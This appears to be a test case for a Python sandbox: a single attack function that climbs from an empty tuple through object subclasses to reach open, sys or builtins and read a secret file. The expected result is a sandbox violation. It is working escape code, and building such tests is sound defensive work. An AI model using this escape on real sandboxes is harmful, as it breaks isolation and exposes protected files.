"""Climb from an empty tuple to every class, and from there to the operating system.

Evidence: secret
Sandbox: violation, ok
"""


def attack(target):
    loot = []
    for kind in ().__class__.__base__.__subclasses__():
        space = getattr(getattr(kind, "__init__", None), "__globals__", {})
        for name in ("open", "sys", "os"):
            thing = space.get(name) or space.get("__builtins__", {})
            try:
                if name == "open" and callable(thing):
                    loot.append(thing(target["secret_file"]).read())
                elif isinstance(thing, dict):
                    loot.append(thing["open"](target["secret_file"]).read())
                elif hasattr(thing, "modules"):
                    loot.append(thing.modules["io"].open(target["secret_file"]).read())
            except (OSError, KeyError, TypeError, ValueError):
                continue
        if len(loot) > 3:
            break
    return [str(item) for item in loot]
